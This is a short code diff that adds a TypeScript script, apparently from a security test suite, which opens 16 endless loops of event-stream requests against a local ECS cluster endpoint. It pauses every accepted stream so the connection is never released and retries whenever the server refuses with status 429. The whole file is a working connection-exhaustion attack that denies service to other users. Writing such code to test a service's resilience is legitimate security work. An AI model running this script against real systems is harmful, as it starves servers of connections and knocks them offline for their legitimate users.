@@ -1,0 +1,12 @@
+// Streams, opened again and again, also when they are refused, and never given back.
+import { send } from './attack.ts'
+
+async function open(): Promise<void> {
+  for (;;) {
+    const answer = await send({ path: '/v1/ecs/local/clusters/mine', headers: { accept: 'text/event-stream' }, ownConnection: true }, 200, 429)
+    if (answer.statusCode === 200) answer.on('error', () => {}).pause()
+    else await answer.resume().toArray()
+  }
+}
+
+await Promise.all(Array.from({ length: 16 }, open))
